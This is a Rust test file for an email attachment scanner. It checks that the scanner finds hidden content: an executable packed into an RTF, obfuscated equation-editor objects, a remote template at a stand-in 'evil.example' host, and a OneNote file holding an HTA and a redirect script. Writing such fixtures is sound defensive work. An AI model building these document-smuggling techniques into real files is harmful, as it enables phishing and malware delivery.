//! What is taken out of documents that hide files: rich text, notebooks, encrypted PDFs.
#![allow(missing_docs, clippy::unwrap_used)]

use pollwatch_mail::attach::{Attachment, Contents, examine};
use pollwatch_mail::limits::Budget;
use pollwatch_mail::signal::Signal;
use proptest::prelude::*;

fn look(name: &str, declared: &str, bytes: &[u8]) -> (Contents, Vec<String>) {
    let mut budget = Budget::default();
    let contents = examine(
        Attachment {
            part: "2",
            name,
            declared,
            bytes,
        },
        &mut budget,
    );
    let cuts = budget.cuts().map(str::to_owned).collect();
    (contents, cuts)
}

fn has(contents: &Contents, signal: Signal) -> bool {
    contents.seen.iter().any(|seen| seen.signal == signal)
}

/// An OLE 1 object (MS-OLEDS, section 2.2.5) of a class with native data, in hexadecimal digits.
fn object(class: &str, native: &[u8]) -> String {
    let mut data = vec![0x01, 0x05, 0, 0, 2, 0, 0, 0];
    let text = |data: &mut Vec<u8>, text: &str| {
        data.extend((text.len() as u32 + 1).to_le_bytes());
        data.extend(text.as_bytes());
        data.push(0);
    };
    text(&mut data, class);
    data.extend([0; 8]);
    data.extend((native.len() as u32).to_le_bytes());
    data.extend(native);
    data.iter().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn a_program_that_is_packed_into_a_rich_text_is_found() {
    let package = [
        &b"\x02\0invoice.exe\0C:\\Users\\x\\invoice.exe\0\0\0\x03\0"[..],
        b"MZ\x90\0\x03\0 a program",
    ]
    .concat();
    let rtf = format!(
        "{{\\rtf1 Please see the file.{{\\object\\objemb{{\\*\\objdata {}}}}}}}",
        object("Package", &package)
    );
    let (contents, _) = look("letter.rtf", "application/rtf", rtf.as_bytes());
    assert!(has(&contents, Signal::ArchiveExecutable), "{contents:#?}");
    assert!(
        contents
            .files
            .iter()
            .any(|file| file.is_embedded && file.name == "invoice.exe"),
        "{contents:#?}"
    );
}

#[test]
fn digits_that_are_broken_up_to_hide_an_object_are_read_all_the_same() {
    let digits = object("Equation.3", b"\x1c\0\0\0");
    let hidden: String = digits
        .as_bytes()
        .chunks(7)
        .map(|few| format!("{}\\par12 {{\\x}}\n", std::str::from_utf8(few).unwrap()))
        .collect();
    let rtf = format!("{{\\rtf1{{\\object{{\\*\\objdata {hidden}}}}}}}");
    let (contents, _) = look("cv.doc", "application/msword", rtf.as_bytes());
    let says: Vec<&str> = contents.seen.iter().map(|seen| seen.says.as_str()).collect();
    assert!(
        says.iter().any(|says| says.contains("equation editor")),
        "{says:?}"
    );
}

#[test]
fn a_template_from_elsewhere_is_something_that_is_loaded() {
    let rtf = b"{\\rtf1{\\*\\template http://templates.evil.example/a.dotm}Text}";
    let (contents, _) = look("letter.rtf", "application/rtf", rtf);
    assert!(
        has(&contents, Signal::OfficeExternalLink)
            && contents.links[0].url == "http://templates.evil.example/a.dotm"
    );
}

#[test]
fn a_file_in_a_notebook_is_taken_out() {
    let mut note = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    note.extend([0; 100]);
    note.extend("Open_me.hta".encode_utf16().flat_map(u16::to_le_bytes));
    note.extend([0; 10]);
    let page = b"<html><script>location='http://evil.example/x'</script></html>";
    note.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    note.extend((page.len() as u64).to_le_bytes());
    note.extend([0; 12]);
    note.extend(page);
    note.extend([0; 40]);
    let (contents, _) = look("minutes.one", "application/onenote", &note);
    assert!(
        has(&contents, Signal::ArchiveExecutable),
        "the name tells: {contents:#?}"
    );
    let inside = contents
        .files
        .iter()
        .find(|file| file.name == "object 1")
        .unwrap();
    assert_eq!(inside.bytes, page.len() as u64);
    assert!(
        contents
            .links
            .iter()
            .any(|link| link.url == "http://evil.example/x"),
        "{contents:#?}"
    );
}

#[test]
fn an_encrypted_pdf_is_told_as_such() {
    let pdf = |trailer: &str| {
        format!("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R{trailer}>>\n%%EOF\n")
    };
    let (_, cuts) = look(
        "statement.pdf",
        "application/pdf",
        pdf("/Encrypt 5 0 R/ID[<00><00>]").as_bytes(),
    );
    assert_eq!(cuts, ["the text and links of statement.pdf, which is encrypted"]);
    for open in ["", "/EncryptMetadata false", "/Encrypted(no)"] {
        let (_, cuts) = look("statement.pdf", "application/pdf", pdf(open).as_bytes());
        assert!(cuts.is_empty(), "{open}: {cuts:?}");
    }
}

proptest! {
    #[test]
    fn documents_of_any_bytes_are_read(start in 0usize..4, rest in proptest::collection::vec(any::<u8>(), 0..400)) {
        let starts: [&[u8]; 4] = [
            b"{\\rtf1{\\*\\objdata 0105",
            b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac",
            b"%PDF-1.4 /Encrypt 1",
            b"{\\rtf1\\template ",
        ];
        let bytes = [starts[start], &rest[..]].concat();
        let (contents, _) = look("a", "", &bytes);
        prop_assert!(contents.files.len() <= 200);
    }
}
